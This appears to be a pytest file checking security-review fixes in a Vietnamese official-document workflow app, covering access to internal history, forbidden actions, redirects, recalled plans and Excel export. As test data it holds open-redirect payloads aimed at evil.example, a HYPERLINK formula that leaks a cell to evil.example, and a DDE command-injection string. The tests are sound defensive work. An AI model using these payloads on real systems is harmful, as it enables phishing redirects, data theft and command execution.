"""Findings of the security review, each a rule the server must keep (see the report of 27/11/2026)."""

import pytest
import register_fixtures
from workflow_fixtures import make_document, move_to
from workflow_fixtures import user as wf_user

from domain.documents import workflow as wf
from domain.documents.review import add_comment
from domain.register import numbering as reg
from extensions import db

INTERNAL_COMMENT = "Góp ý nội bộ: bỏ đoạn kinh phí"
RETURN_REASON = "Sửa mục II."  # the approver's reason in workflow_fixtures.PATHS["returned"]


def _issued_to_district(people) -> int:
    """A document returned once, commented on inside the office, then approved and issued to the district."""
    document = make_document(title="Tổ chức Ngày hội Đại đoàn kết toàn dân tộc")
    document.set_recipients([(people["district"], "")])
    move_to(document, wf.RETURNED)
    add_comment(document, wf_user("approver"), INTERNAL_COMMENT)
    wf.perform(document, "submit", wf_user("clerk"), expected_status=wf.RETURNED, approver_id=wf_user("approver").id)
    move_to(document, wf.APPROVED)
    db.session.commit()
    reg.issue(document, wf_user("records"), register_fixtures.office_time(2026, 3, 2, 9, 0))
    db.session.commit()
    return document.id


@pytest.fixture
def addressed(app, people) -> int:
    with app.app_context():
        return _issued_to_district(people)


# A unit reporter may read an issued document addressed to their unit, never the office's internal history
# (who returned it and why, review comments): the workflow panel and the review screen already hide it (404).
@pytest.mark.parametrize("url", ["/archive/{id}", "/archive?q=dai+doan+ket", "/documents/{id}"])
def test_a_unit_reporter_reads_an_issued_document_without_the_internal_history(client, login, addressed, url):
    login("reporter")
    response = client.get(url.format(id=addressed))
    body = response.get_data(as_text=True)
    assert response.status_code == 200 and "Ngày hội Đại đoàn kết" in body
    assert INTERNAL_COMMENT not in body and RETURN_REASON not in body
    assert 'id="history"' not in body and "#history" not in body


@pytest.mark.parametrize("username", ["clerk", "approver", "records", "admin"])
def test_the_office_still_sees_the_whole_history_in_the_archive(client, login, addressed, username):
    login(username)
    body = client.get(f"/archive/{addressed}").get_data(as_text=True)
    assert 'id="history"' in body and INTERNAL_COMMENT in body and RETURN_REASON in body
    assert f"/archive/{addressed}#history" in client.get("/archive?q=dai+doan+ket").get_data(as_text=True)


@pytest.mark.parametrize("url", ["/documents/{id}/review", "/documents/{id}/workflow", "/documents/{id}/revisions/1"])
def test_the_internal_pages_of_an_addressed_document_stay_closed_to_the_unit(client, login, addressed, url):
    login("reporter")
    assert client.get(url.format(id=addressed)).status_code in (403, 404)


# ---- actions the status or the person forbids: refused on the server, nothing changes ---------------------------

def _second_approver():
    from conftest import make_user

    from models import User
    from models.choices import APPROVER

    return db.session.scalar(db.select(User).filter_by(username="approver2")) or make_user(
        "approver2", {APPROVER}, full_name="Trần Văn Phó", position_title="PHÓ CHỦ TỊCH")


# (who, what they post, the document's status, form data)
REFUSED = [
    ("approver2", "approve", wf.SUBMITTED, {"content_ok": "1", "format_ok": "1"}),  # submitted to someone else
    ("approver2", "return", wf.SUBMITTED, {"comment": "Sửa lại."}),
    ("clerk", "submit", wf.ISSUED, {}),
    ("clerk", "withdraw", wf.APPROVED, {}),
    ("clerk", "cancel", wf.APPROVED, {}),
    ("clerk", "", wf.ISSUED, {"title": "Trích yếu đã đổi", "body": "Nội dung đã đổi", "kind": "KH"}),  # the editor
    ("clerk", "", wf.SUBMITTED, {"title": "Trích yếu đã đổi", "body": "Nội dung đã đổi", "kind": "KH"}),
    ("clerk", "comments", wf.ISSUED, {"text": "Góp ý muộn"}),
    ("records", "issue", wf.SUBMITTED, {"copies": "5"}),
    ("records", "signed-copy", wf.APPROVED, {}),
    ("approver", "recall", wf.APPROVED, {"reason": "Thu hồi"}),
]


@pytest.mark.parametrize("username,action,status,data", REFUSED,
                         ids=[f"{u}-{a or 'save'}-{s}" for u, a, s, _ in REFUSED])
def test_an_action_the_status_or_person_forbids_is_refused_and_changes_nothing(client, login, app, people, username,
                                                                              action, status, data):
    from models import Document

    with app.app_context():
        _second_approver()
        document = make_document(status=status)
        db.session.commit()
        doc_id, before = document.id, (document.status, document.content(), document.lock_version, document.number)
    login(username)
    data = {"expected_status": status, "lock_version": str(before[2]), **data}
    response = client.post(f"/documents/{doc_id}/{action}".rstrip("/"), data=data)
    assert response.status_code in (200, 303, 403, 404, 409)
    with app.app_context():
        document = db.session.get(Document, doc_id)
        assert (document.status, document.content(), document.lock_version, document.number) == before


# ---- redirects go only to this site's own pages ---------------------------------------------------------------

HOSTILE_NEXT = ["//evil.example", "/\\evil.example", "/\\/evil.example", "\\\\evil.example", "https://evil.example",
                "/\t/evil.example", "javascript:alert(1)", "http:/evil.example"]


def _stays_here(location: str) -> bool:
    """Where a browser would go: backslashes count as slashes, tabs and newlines are dropped."""
    target = location.replace("\\", "/").replace("%5C", "/").replace("%5c", "/")
    target = "".join(ch for ch in target if ch not in "\t\r\n")
    return target.startswith("/") and not target.startswith("//") and "evil.example" not in target


@pytest.mark.parametrize("target", HOSTILE_NEXT)
def test_sign_in_never_sends_the_user_to_another_site(client, people, target):
    from conftest import PASSWORD

    response = client.post("/login", query_string={"next": target}, data={"username": "clerk", "password": PASSWORD})
    assert response.status_code == 303 and _stays_here(response.headers["Location"])


def test_sign_in_still_returns_to_the_page_asked_for(client, people):
    from conftest import PASSWORD

    response = client.post("/login", query_string={"next": "/documents?kind=KH"},
                           data={"username": "clerk", "password": PASSWORD})
    assert response.headers["Location"] == "/documents?kind=KH"


@pytest.mark.parametrize("target", HOSTILE_NEXT)
def test_a_workflow_form_never_sends_the_user_to_another_site(client, login, app, people, target):
    with app.app_context():
        doc_id = make_document(status=wf.SUBMITTED).id
        db.session.commit()
    login("approver")
    response = client.post(f"/documents/{doc_id}/comments", data={"text": "Bổ sung kinh phí.", "next": target})
    assert response.status_code == 303 and _stays_here(response.headers["Location"])


@pytest.mark.parametrize("target", HOSTILE_NEXT)
def test_issuing_never_sends_the_records_clerk_to_another_site(client, login, app, people, target):
    with app.app_context():
        doc_id = register_fixtures.approved_document(people)
        db.session.commit()
    login("records")
    response = client.post(f"/documents/{doc_id}/issue", data={"expected_status": wf.APPROVED, "reserved_entry_id": "0",
                                                               "copies": "3", "next": target})
    assert response.status_code == 303 and _stays_here(response.headers["Location"])


# ---- a recalled plan is no longer followed up: nobody is reminded, given new tasks or asked for a report -------

def _recalled_tracked_plan(people) -> int:
    """The security plan (issued, tracked, a districts' task long overdue), then recalled by the records clerk."""
    import plans_fixtures

    from models import Document

    plan_id = plans_fixtures.security_plan(people)
    document = db.session.get(Document, plan_id)
    wf.perform(document, "recall", wf_user("records"), expected_status=document.status, reason="Ban hành nhầm.")
    db.session.commit()
    return plan_id


def _notifications_and_assignments():
    from sqlalchemy import func, select

    from models import Assignment, Notification

    return (db.session.scalar(select(func.count(Notification.id))),
            db.session.scalar(select(func.count(Assignment.id))))


@pytest.mark.parametrize("path,data", [
    ("remind", {}),
    ("sync", {}),
    ("reports", {"title": "Kết quả thực hiện", "cutoff_on": "2026-06-30", "due_on": "2026-07-10",
                 "questions": "Khó khăn, vướng mắc"}),
])
def test_a_recalled_plan_reaches_no_unit(client, login, app, people, path, data):
    from conftest import make_unit

    from models import PlanTask, Unit

    with app.app_context():
        plan_id = _recalled_tracked_plan(people)
        make_unit("Thành phố Tam Điệp", parent=db.session.get(Unit, people["group"]))  # joins the group later
        task_ids = db.session.scalars(db.select(PlanTask.id).where(PlanTask.document_id == plan_id)).all()
        db.session.commit()
        before = _notifications_and_assignments()
    if path == "reports":
        data = {**data, "task_ids": [str(t) for t in task_ids], "unit_ids": [str(people["district"])]}
    login("clerk")
    response = client.post(f"/plans/{plan_id}/{path}", data=data, follow_redirects=True)
    assert response.status_code == 200
    assert "hủy hoặc thu hồi" in response.get_data(as_text=True)
    with app.app_context():
        assert _notifications_and_assignments() == before


@pytest.mark.parametrize("action", ["remind", "units"])
def test_a_report_round_of_a_recalled_plan_reaches_no_unit(client, login, app, people, action):
    import reports_fixtures

    from models import Document, ReportRound

    with app.app_context():
        round_id = reports_fixtures.security_round(people)  # asks both districts; only one has answered
        plan = db.session.get(ReportRound, round_id).plan
        reports_fixtures.open_round(plan, people, unit_ids=[people["district"]])  # another round, for "units"
        document = db.session.get(Document, plan.id)
        wf.perform(document, "recall", wf_user("records"), expected_status=document.status, reason="Ban hành nhầm.")
        db.session.commit()
        if action == "units":
            round_id = db.session.scalar(db.select(ReportRound.id).order_by(ReportRound.id.desc()))
        before = _notifications_and_assignments()
    login("clerk")
    response = client.post(f"/reports/{round_id}/{action}", data={"unit_id": str(people["other_district"])},
                           follow_redirects=True)
    assert response.status_code == 200 and "hủy hoặc thu hồi" in response.get_data(as_text=True)
    with app.app_context():
        assert _notifications_and_assignments() == before


# ---- the register's Excel export: what people typed stays text, never a formula Excel would run -------------

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def test_typed_text_in_the_exported_register_is_never_a_formula(client, login, app, people):
    import io

    from openpyxl import load_workbook

    with app.app_context():
        document = register_fixtures.make_document(FORMULA, recipients=["=1+1", people["district"]])
        db.session.commit()
        reg.issue(document, wf_user("records"), register_fixtures.office_time(2026, 3, 2, 9, 0), keeper="@SUM(A1)",
                  notes="+cmd|' /C calc'!A0")
        db.session.commit()
    login("records")
    sheet = load_workbook(io.BytesIO(client.get("/register/export.xlsx?year=2026").data)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = " ".join(str(c.value) for c in cells)
    assert "HYPERLINK" in texts and "=1+1" in texts
